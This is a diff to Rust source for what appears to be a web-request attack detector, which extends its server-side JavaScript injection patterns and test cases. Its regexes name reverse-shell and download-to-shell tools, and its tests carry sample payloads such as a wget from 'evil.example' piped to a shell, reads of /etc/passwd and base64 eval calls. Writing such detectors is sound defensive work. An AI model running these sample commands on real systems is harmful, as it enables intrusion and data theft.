@@ -28,11 +28,11 @@ pub(crate) struct Cmdi {
 }
 
 /// Plain JavaScript syntax (`function(){`, `module.exports =`, `console.log(`, `process.env`,
-/// `new Function(`): server-side code injection in a URL, header or form, but what a code snippet
+/// `new Function(`, `require('fs')`, `process.exit(`, `vm.runInNewContext(`, `this.constructor`): server-side code injection in a URL, header or form, but what a code snippet
 /// in a JSON text field (a gist, a support ticket) is made of, so only Medium there. What reaches
 /// the runtime or a shell (`child_process`, `process.mainModule`, `constructor.constructor`) is
 /// High anywhere.
-const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b";
+const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b|\brequire\s*\(\s*['`\x22]|\bprocess\s*\.\s*(?:exit|kill|abort|dlopen|chdir|setuid|setgid|umask|cwd)\s*\(|\bprocess\s*\.\s*(?:argv|execargv|execpath)\b|\bthis\s*\.\s*constructor\b|\bvm\s*\.\s*run(?:in(?:new|this)?context)?\s*\(|\bglobal(?:this)?\s*(?:\.\s*process\b|\[\s*['`\x22]process)";
 
 /// Commands that are an attack after a separator when an argument shape follows (also what the
 /// PHP check looks for in `system(...)`). The Windows administration tools among them (`icacls`,
@@ -379,7 +379,7 @@ impl Cmdi {
             // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b)", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
             (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
             (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
@@ -529,6 +529,12 @@ impl Check for Cmdi {
             lit("noawxkx3by"),
             lit("jaglszf9wc"),
             lit("constructor"),
+            lit("runinnewcontext"),
+            lit("runinthiscontext"),
+            lit("runincontext"),
+            lit("globalthis"),
+            lit("global.process"),
+            lit("global["),
             lit("module.exports"),
             gated("console", process_member),
             gated("function", starts_word),
@@ -942,10 +948,23 @@ mod tests {
             "## Install\n\n```sh\ncurl -fsSL https://get.example.com | sh\nnpm install && npm run build\n```",
             "Run `ls -la /var/log` then `tail -f /var/log/syslog | grep error`",
             "Check the distro with `cat /etc/os-release; uname -a` first",
+            "const fs = require('fs'); process.exit(0) when done; this.constructor is the class",
+            "the process.argv array holds the arguments",
         ] {
             assert!(!any_flag_in_json(snippet), "{snippet}");
         }
-        for v in ["function(){return this}()", "console.log(1)", "process.env"] {
+        for v in [
+            "function(){return this}()",
+            "console.log(1)",
+            "process.env",
+            "require('fs').readFileSync('/etc/hosts')",
+            "process.exit(1)",
+            "process.argv",
+            "this.constructor",
+            "vm.runInNewContext('x')",
+            "globalThis.process",
+            "global['process']",
+        ] {
             assert!(flags("attack.cmdi", v), "{v} in a URL");
             assert!(
                 flags_at("attack.cmdi", Part::Body, v),
@@ -966,6 +985,8 @@ mod tests {
             "`id`",
             "see `x`; cat /etc/passwd",
             "```\nwget http://evil.example/x.sh | sh",
+            "eval(atob('Y29uc29sZS5sb2coMSk='))",
+            "eval(Buffer.from(x, 'base64').toString())",
         ] {
             assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
         }
